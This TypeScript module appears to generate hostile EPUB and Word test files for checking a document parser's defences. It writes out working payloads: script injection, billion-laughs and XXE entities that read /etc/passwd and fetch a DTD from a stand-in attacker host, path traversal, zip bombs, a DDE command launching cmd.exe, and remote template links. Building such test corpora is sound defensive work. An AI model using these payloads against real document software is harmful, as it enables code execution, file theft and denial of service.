/** Books and documents: markup in a ZIP file. */
import { ATTACKER, MARK, PROSE, type Hostile } from './input.ts';
import { hundredMegabytes, type Member, zipInput } from './zip.ts';

const SCRIPT = `window.${MARK}=1`;

const CONTAINER =
  '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>';
const packageOf = (manifest: string, spine: string, metadata = '<dc:title>A book</dc:title>'): string =>
  `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">${metadata}</metadata><manifest>${manifest}</manifest><spine>${spine}</spine></package>`;
const CHAPTER_ITEM = '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/>';
const ONE_CHAPTER = packageOf(CHAPTER_ITEM, '<itemref idref="c"/>');
const chapter = (body: string, before = ''): string =>
  `${before}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Chapter</title></head><body><h1>Chapter</h1><p>${PROSE}</p>${body}</body></html>`;
const book = (...members: readonly Member[]): readonly Member[] => {
  const given = new Set(members.map(({ name }) => name));
  const usual: readonly Member[] = [
    { name: 'mimetype', content: 'application/epub+zip', stored: true },
    { name: 'META-INF/container.xml', content: CONTAINER },
    { name: 'b.opf', content: ONE_CHAPTER },
    { name: 'c.xhtml', content: chapter('') },
  ];
  return [...usual.filter(({ name }) => !given.has(name)), ...members];
};
const bookInput = (name: string, ...members: readonly Member[]): Hostile =>
  zipInput(`book-${name}.epub`, () => book(...members));

/** Ten entities, each ten times the one before it. */
const LAUGHS = `<!DOCTYPE html [<!ENTITY l0 "lol">${Array.from(
  { length: 10 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('')}]>`;
export const OUTSIDE = `<!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${ATTACKER}/x"><!ENTITY % p SYSTEM "${ATTACKER}/p.dtd">%p;]>`;

export const BOOKS: readonly Hostile[] = [
  bookInput('scripts', {
    name: 'c.xhtml',
    content: chapter(
      `<script>${SCRIPT}</script><img src="x" onerror="${SCRIPT}"/><a href="javascript:${SCRIPT}">a</a><iframe src="${ATTACKER}"/><svg onload="${SCRIPT}"/><img src="../../../etc/passwd"/><img src="${ATTACKER}/x.png"/><img src="file:///etc/passwd"/><video src="${ATTACKER}/v"/><switch xmlns="http://www.idpf.org/2007/ops"><case><script>${SCRIPT}</script></case></switch>`,
    ),
  }),
  bookInput('details', {
    name: 'b.opf',
    content: packageOf(
      CHAPTER_ITEM,
      '<itemref idref="c"/>',
      `<dc:title>&lt;script&gt;${SCRIPT}&lt;/script&gt;&#1;</dc:title><dc:creator>&#x202e;A&#27;</dc:creator><dc:identifier>javascript:${SCRIPT}</dc:identifier><dc:source>javascript:${SCRIPT}</dc:source><dc:language>x" onclick="</dc:language><dc:date>99999-99-99</dc:date><meta property="__proto__">x</meta>`,
    ),
  }),
  bookInput('laughs', { name: 'c.xhtml', content: chapter('<p>&l10;</p>', LAUGHS) }),
  bookInput('laughs-in-package', { name: 'b.opf', content: LAUGHS + ONE_CHAPTER.replace('A book', '&l10;') }),
  bookInput('outside', { name: 'c.xhtml', content: chapter('<p>&f;&h;</p>', OUTSIDE) }),
  bookInput('outside-in-container', {
    name: 'META-INF/container.xml',
    content: OUTSIDE + CONTAINER.replace('b.opf', '&f;'),
  }),
  bookInput('traversal', {
    name: 'b.opf',
    content: packageOf(
      [
        '../../../../etc/passwd',
        'file:///etc/passwd',
        `${ATTACKER}/c.xhtml`,
        '/etc/passwd',
        '..%2f..%2fetc%2fpasswd',
        'C:\\x',
        '__proto__',
        '',
      ]
        .map((href, index) => `<item id="i${index}" href="${href}" media-type="application/xhtml+xml"/>`)
        .join('') + CHAPTER_ITEM,
      `${Array.from({ length: 8 }, (_, index) => `<itemref idref="i${index}"/>`).join('')}<itemref idref="c"/>`,
    ),
  }),
  bookInput('same-chapter-often', {
    name: 'b.opf',
    content: packageOf(CHAPTER_ITEM, '<itemref idref="c"/>'.repeat(50_000)),
  }),
  bookInput('prototype', {
    name: 'b.opf',
    content: packageOf(
      `<item id="__proto__" href="constructor" media-type="toString"/>${CHAPTER_ITEM}`,
      '<itemref idref="__proto__"/><itemref idref="constructor"/><itemref idref="c"/>',
    ),
  }),
  bookInput('package-of-itself', {
    name: 'b.opf',
    content: packageOf(
      '<item id="c" href="b.opf" media-type="application/xhtml+xml"/>',
      '<itemref idref="c"/>',
    ),
  }),
  bookInput('deep-package', { name: 'b.opf', content: packageOf('<x>'.repeat(20_000), '') }),
  bookInput('deep-chapter', { name: 'c.xhtml', content: chapter('<div>'.repeat(20_000)) }),
  bookInput(
    'deep-contents',
    {
      name: 'nav.xhtml',
      content: chapter('<nav epub:type="toc"><ol><li>'.repeat(5000)),
    },
    {
      name: 'b.opf',
      content: packageOf(
        `${CHAPTER_ITEM}<item id="n" href="nav.xhtml" properties="nav" media-type="application/xhtml+xml"/>`,
        '<itemref idref="c"/>',
      ),
    },
  ),
  bookInput('locked', {
    name: 'META-INF/encryption.xml',
    content:
      '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#"><CipherData><CipherReference URI="c.xhtml"/></CipherData></EncryptedData></encryption>',
  }),
  bookInput(
    'image-that-is-a-page',
    { name: 'c.xhtml', content: chapter('<img src="x.png"/><img src="y.svg"/>') },
    { name: 'x.png', content: `<script>${SCRIPT}</script>` },
    { name: 'y.svg', content: `<svg onload="${SCRIPT}"/>` },
  ),
  bookInput('nothing', { name: 'b.opf', content: packageOf('', '') }),
  zipInput('book-without-package.epub', () => [
    { name: 'mimetype', content: 'application/epub+zip', stored: true },
  ]),
  zipInput('book-bomb.epub', () => book({ name: 'c.xhtml', content: hundredMegabytes() })),
  zipInput('book-package-bomb.epub', () => book({ name: 'b.opf', content: hundredMegabytes() })),
  zipInput('book-bomb-that-lies.epub', () =>
    book({ name: 'c.xhtml', content: hundredMegabytes(), says: { size: 100 } }),
  ),
];

const WORD =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const words = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const documentXml = (body: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<w:document ${WORD}><w:body>${words(PROSE)}${body}</w:body></w:document>`;
const relations = (inner: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`;
const word = (content: string | Uint8Array, links = '', says?: Member['says']): readonly Member[] => [
  {
    name: '[Content_Types].xml',
    content:
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  },
  {
    name: '_rels/.rels',
    content: relations(
      `<Relationship Id="r1" Type="${RELATION}/officeDocument" Target="word/document.xml"/>`,
    ),
  },
  { name: 'word/_rels/document.xml.rels', content: relations(links) },
  { name: 'word/document.xml', content, ...(says === undefined ? {} : { says }) },
];
const link = (id: string, target: string, type = 'hyperlink'): string =>
  `<Relationship Id="${id}" Type="${RELATION}/${type}" Target="${target}" TargetMode="External"/>`;
const linked = (id: string): string =>
  `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>A link ${id}</w:t></w:r></w:hyperlink></w:p>`;

export const DOCUMENTS: readonly Hostile[] = [
  zipInput('word-links.docx', () =>
    word(
      documentXml(
        ['a', 'b', 'c', 'd', '__proto__'].map(linked).join('') +
          `<w:p><w:fldSimple w:instr=" HYPERLINK &quot;javascript:${SCRIPT}&quot; "><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p><w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>dde</w:t></w:r></w:fldSimple></w:p>` +
          words(`&lt;script&gt;${SCRIPT}&lt;/script&gt; [a](javascript:${SCRIPT})`),
      ),
      link('a', `javascript:${SCRIPT}`) +
        link('b', 'file:///etc/passwd') +
        link('c', 'data:text/html,x') +
        link('d', `${ATTACKER}/d`) +
        link('t', `${ATTACKER}/t.dotm`, 'attachedTemplate') +
        link('i', `${ATTACKER}/i.png`, 'image') +
        link('__proto__', 'javascript:x'),
    ),
  ),
  zipInput('word-image-outside.docx', () =>
    word(
      documentXml(
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="i" r:embed="j"/></w:drawing></w:r></w:p>',
      ),
      `${link('i', 'file:///etc/passwd', 'image')}<Relationship Id="j" Type="${RELATION}/image" Target="../../../../etc/passwd"/>`,
    ),
  ),
  zipInput('word-laughs.docx', () => word(documentXml(words('&l10;'), LAUGHS))),
  zipInput('word-outside.docx', () => word(documentXml(words('&f;&h;'), OUTSIDE))),
  zipInput('word-deep.docx', () => word(documentXml('<w:tbl><w:tr><w:tc>'.repeat(5000)))),
  zipInput('word-deep-closed.docx', () =>
    word(
      documentXml('<w:sdt><w:sdtContent>'.repeat(5000) + words('x') + '</w:sdtContent></w:sdt>'.repeat(5000)),
    ),
  ),
  zipInput('word-many.docx', () => word(documentXml(words('x').repeat(20_000)))),
  zipInput('word-bomb.docx', () => word(hundredMegabytes())),
  zipInput('word-bomb-that-lies.docx', () => word(hundredMegabytes(), '', { size: 100 })),
  zipInput('word-without-document.docx', () => word('').filter(({ name }) => name !== 'word/document.xml')),
  zipInput('word-of-itself.docx', () => [
    ...word(documentXml('')),
    {
      name: 'word/footnotes.xml',
      content: `<w:footnotes ${WORD}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>`,
    },
  ]),
];
